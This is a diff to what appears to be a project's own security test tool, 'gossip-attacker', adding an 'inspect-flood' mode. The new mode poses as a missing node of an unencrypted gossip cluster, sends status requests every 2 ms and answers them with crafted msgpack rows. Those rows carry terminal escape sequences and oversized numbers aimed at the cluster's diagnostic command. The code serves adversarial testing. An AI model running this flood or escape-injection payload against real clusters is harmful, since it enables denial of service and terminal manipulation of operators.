@@ -13,6 +13,13 @@
 //     that never ends: 64 KiB frames, each marked "more" (finding 2). Connects
 //     again when a daemon cuts it, and prints the daemons' peak memory each time.
 //
+//   gossip-attacker inspect-flood --target EP --listen EP --as-node N [--seconds S]
+//     Poses as node N of a plain (no CURVE) cluster whose node N is not running: sends
+//     the node at --target an ask for its link row and one for its status every 2 ms,
+//     and answers the asks that reach it at --listen (node N's address, where the
+//     others send) with a report whose strings hold terminal escapes and whose numbers
+//     are as large as msgpack holds (gossipctl doctor's reports).
+//
 //   gossip-attacker hijack --parent PID --key-of K --claim N [--seconds S]
 //     With node K's own valid CURVE key (read from gossipctl cluster --curve's run
 //     directory: a compromised node), connects to node 0 again and again presenting
@@ -33,6 +40,7 @@
 #include <filesystem>
 #include <fstream>
 #include <map>
+#include <msgpack.hpp>
 #include <set>
 #include <sstream>
 #include <string>
@@ -40,6 +48,7 @@
 #include <vector>
 #include <zmq.hpp>
 
+#include "proto/message.h"
 #include "tests/security/zmtp_by_hand.h"
 
 namespace {
@@ -51,7 +60,9 @@ using Clock = std::chrono::steady_clock;
   std::fprintf(stderr,
                "usage: gossip-attacker idle-connect --parent PID [--seconds S]\n"
                "       gossip-attacker multipart-flood --parent PID --as-node N [--seconds S]\n"
-               "       gossip-attacker hijack --parent PID --key-of K --claim N [--seconds S]\n");
+               "       gossip-attacker hijack --parent PID --key-of K --claim N [--seconds S]\n"
+               "       gossip-attacker inspect-flood --target EP --listen EP --as-node N "
+               "[--seconds S]\n");
   std::exit(2);
 }
 
@@ -281,12 +292,86 @@ int hijack(int parent, int key_of, int claim, double seconds) {
   return 0;
 }
 
+// A link row (proto/inspect.h's layout) as a hostile node writes it: escapes in every
+// string, the largest doubles, more than a terminal wants.
+std::string hostile_row(int node) {
+  const std::string evil = "\x1b[2J\x1b]0;owned\x07\x1b[31mEVIL" + std::string(1000, 'A');
+  msgpack::sbuffer buf;
+  msgpack::packer<msgpack::sbuffer> pk(buf);
+  pk.pack_array(4);
+  pk.pack(node);
+  pk.pack_array(3), pk.pack(evil), pk.pack(evil), pk.pack(false);
+  pk.pack_array(1);
+  pk.pack_array(23);
+  // to, endpoint, connect, connect_error, connect_ms, handshake
+  pk.pack(0), pk.pack(evil), pk.pack(0), pk.pack(evil), pk.pack(1e300), pk.pack(1);
+  // connects, disconnects, handshake_failures, pings, pongs
+  for (int i = 0; i < 5; ++i) pk.pack(uint64_t{1} << 62);
+  // rtt, clock offset and error, tcp rtt; segments sent and retransmitted; bandwidth
+  pk.pack(1e300), pk.pack(-1e300), pk.pack(1e300), pk.pack(1e300);
+  pk.pack(uint64_t{1} << 62), pk.pack(uint64_t{1} << 62), pk.pack(1e300);
+  // version, strategy, silent_ms, refused, last_refusal
+  pk.pack(evil), pk.pack(evil), pk.pack(1e300), pk.pack(uint64_t{7}), pk.pack(evil);
+  pk.pack_array(1), pk.pack(evil);
+  return std::string(buf.data(), buf.size());
+}
+
+int inspect_flood(const std::string& target, const std::string& listen, int as_node,
+                  double seconds) {
+  using gossip::proto::Inspect;
+  const auto end = Clock::now() + std::chrono::duration<double>(seconds);
+  zmq::context_t context;
+  zmq::socket_t out(context, zmq::socket_type::dealer);
+  out.set(zmq::sockopt::routing_id, "node-" + std::to_string(as_node));
+  out.set(zmq::sockopt::linger, 0);
+  out.connect(target);
+  zmq::socket_t in(context, zmq::socket_type::router);
+  in.set(zmq::sockopt::linger, 0);
+  in.bind(listen);
+  const auto send = [&](const Inspect& m, const std::string& payload) {
+    const std::string head =
+        gossip::proto::encode_head(static_cast<uint32_t>(as_node), 0, m, payload.size());
+    const auto more = payload.empty() ? zmq::send_flags::dontwait
+                                      : zmq::send_flags::sndmore | zmq::send_flags::dontwait;
+    (void)out.send(zmq::buffer(head), more);
+    if (!payload.empty()) (void)out.send(zmq::buffer(payload), zmq::send_flags::dontwait);
+  };
+  uint64_t asks = 0, answered = 0;
+  while (Clock::now() < end) {
+    send(Inspect{Inspect::kAskLinks, asks, 0, 60000}, "");
+    send(Inspect{Inspect::kAskStatus, asks, 0, 0}, "");
+    asks += 2;
+    zmq::pollitem_t item{in.handle(), 0, ZMQ_POLLIN, 0};
+    if (zmq::poll(&item, 1, std::chrono::milliseconds(2)) == 0) continue;
+    std::vector<zmq::message_t> frames;
+    zmq::message_t f;
+    while (in.recv(f, zmq::recv_flags::dontwait)) {
+      const bool more = f.more();
+      frames.push_back(std::move(f));
+      if (!more) break;
+    }
+    if (frames.size() < 2) continue;
+    auto m = gossip::proto::decode_head(frames[1].data(), frames[1].size());
+    if (!m) continue;
+    const auto* ask = std::get_if<Inspect>(&m->body);
+    if (ask && ask->what == Inspect::kAskLinks) {
+      send(Inspect{Inspect::kLinks, ask->nonce, 0, 0}, hostile_row(as_node));
+      ++answered;
+    }
+  }
+  std::printf("sent %llu asks as node %d; answered %llu asks with a hostile row\n",
+              static_cast<unsigned long long>(asks), as_node,
+              static_cast<unsigned long long>(answered));
+  return 0;
+}
+
 }  // namespace
 
 int main(int argc, char** argv) {
   if (argc < 2) usage();
   const std::string mode = argv[1];
   int parent = -1, as_node = -1, key_of = -1, claim = -1;
+  std::string target, listen;
   double seconds = 3600;
   for (int i = 2; i + 1 < argc; i += 2) {
     const std::string flag = argv[i];
@@ -300,12 +385,18 @@ int main(int argc, char** argv) {
       as_node = std::atoi(argv[i + 1]);
     else if (flag == "--seconds")
       seconds = std::atof(argv[i + 1]);
+    else if (flag == "--target")
+      target = argv[i + 1];
+    else if (flag == "--listen")
+      listen = argv[i + 1];
     else
       usage();
   }
   if (mode == "idle-connect" && parent > 0) return idle_connect(parent, seconds);
   if (mode == "hijack" && parent > 0 && key_of >= 0 && claim >= 0)
     return hijack(parent, key_of, claim, seconds);
+  if (mode == "inspect-flood" && !target.empty() && !listen.empty() && as_node >= 0)
+    return inspect_flood(target, listen, as_node, seconds);
   if (mode == "multipart-flood" && parent > 0 && as_node >= 0)
     return multipart_flood(parent, as_node, seconds);
   usage();
